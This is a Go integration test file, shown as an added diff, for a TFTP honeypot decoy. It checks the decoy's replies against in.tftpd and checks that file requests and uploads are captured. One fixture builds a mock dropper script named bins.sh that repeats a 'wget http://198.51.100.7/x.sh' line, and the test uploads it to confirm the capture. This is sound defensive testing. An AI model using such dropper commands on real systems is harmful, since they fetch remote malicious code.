@@ -1,0 +1,137 @@
+//go:build integration
+
+package tftp
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/decnet/decnet/decoys"
+)
+
+// TestInTftpdOracle sends every request of firstReplies to in.tftpd from
+// tftpd-hpa (foreground, --secure, loopback high port) and to the decoy,
+// and compares the first replies byte for byte.
+func TestInTftpdOracle(t *testing.T) {
+	bin, err := exec.LookPath("in.tftpd")
+	if err != nil {
+		t.Skip("in.tftpd is not installed; install tftpd-hpa under a policy-rc.d that exits 101")
+	}
+	oracle := startInTftpd(t, bin)
+	ts := startService(t, decoys.Config{Options: map[string]string{OptCreate: "false"}, Limits: decoys.Limits{MaxConnsPerSource: 100}})
+	addFixture(ts.svc)
+
+	for _, tc := range firstReplies {
+		t.Run(tc.name, func(t *testing.T) {
+			wait := 2 * time.Second
+			if tc.want == "" {
+				wait = 300 * time.Millisecond
+			}
+			want, _, _ := exchange(t, "127.0.0.1", oracle, []byte(tc.req), wait)
+			got, _, _ := exchange(t, "127.0.0.2", ts.addr, []byte(tc.req), wait)
+			if !bytes.Equal(got, want) {
+				t.Errorf("decoy %q, in.tftpd %q", got, want)
+			}
+		})
+	}
+}
+
+func startInTftpd(t *testing.T, bin string) string {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.Chmod(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "a.txt"), []byte("hello tftp\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(dir, "dir"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	port := pc.LocalAddr().(*net.UDPAddr).Port
+	_ = pc.Close()
+	addr := "127.0.0.1:" + strconv.Itoa(port)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cmd := exec.CommandContext(ctx, bin, "-L", "-a", addr, "-s", dir)
+	if err := cmd.Start(); err != nil {
+		cancel()
+		t.Fatalf("start in.tftpd: %v", err)
+	}
+	t.Cleanup(func() {
+		cancel()
+		_ = cmd.Wait()
+	})
+	// in.tftpd replies to a missing file once it listens.
+	for i := 0; ; i++ {
+		if got, _, _ := exchange(t, "127.0.0.1", addr, []byte("\x00\x01probe\x00octet\x00"), 200*time.Millisecond); got != nil {
+			return addr
+		}
+		if i == 25 {
+			t.Fatalf("in.tftpd did not answer on %s", addr)
+		}
+	}
+}
+
+// TestTftpHPAClient gets and puts files with the tftp-hpa client in both
+// modes and checks the events.
+func TestTftpHPAClient(t *testing.T) {
+	bin, err := exec.LookPath("tftp")
+	if err != nil {
+		t.Skip("tftp is not installed; install tftp-hpa")
+	}
+	ts := startService(t, decoys.Config{Seed: []byte("client-seed")})
+	host, port, _ := net.SplitHostPort(ts.addr)
+	dir := t.TempDir()
+
+	got := filepath.Join(dir, "default")
+	out, err := exec.Command(bin, host, port, "-m", "netascii", "-c", "get", "pxelinux.cfg/default", got).CombinedOutput()
+	if err != nil {
+		t.Fatalf("tftp get: %v: %s", err, out)
+	}
+	body, _ := os.ReadFile(got)
+	if !strings.HasPrefix(string(body), "DEFAULT install\nLABEL install\n") {
+		t.Errorf("got %q", body)
+	}
+
+	out, _ = exec.Command(bin, host, port, "-m", "binary", "-c", "get", "nope.bin", filepath.Join(dir, "nope")).CombinedOutput()
+	if !strings.Contains(string(out), "File not found") {
+		t.Errorf("missing file output %q", out)
+	}
+
+	payload := bytes.Repeat([]byte("#!/bin/sh\nwget http://198.51.100.7/x.sh\n"), 200)
+	src := filepath.Join(dir, "bins.sh")
+	if err := os.WriteFile(src, payload, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, err = exec.Command(bin, host, port, "-m", "binary", "-c", "put", src, "bins.sh").CombinedOutput()
+	if err != nil {
+		t.Fatalf("tftp put: %v: %s", err, out)
+	}
+
+	capt := ts.rec.waitKind(t, decoys.KindFileCaptured, 1)[0].GetFileCaptured()
+	sum := sha256.Sum256(payload)
+	if !bytes.Equal(capt.GetSha256(), sum[:]) || capt.GetName() != "bins.sh" || capt.GetSize() != uint64(len(payload)) {
+		t.Errorf("captured %x %q %d", capt.GetSha256(), capt.GetName(), capt.GetSize())
+	}
+	reqs := ts.rec.waitKind(t, decoys.KindFileRequested, 2)
+	if r := reqs[0].GetFileRequested(); r.GetName() != "pxelinux.cfg/default" || !r.GetServed() || r.GetMode() != "netascii" {
+		t.Errorf("first request %v", r)
+	}
+	if r := reqs[1].GetFileRequested(); r.GetName() != "nope.bin" || r.GetServed() {
+		t.Errorf("second request %v", r)
+	}
+}
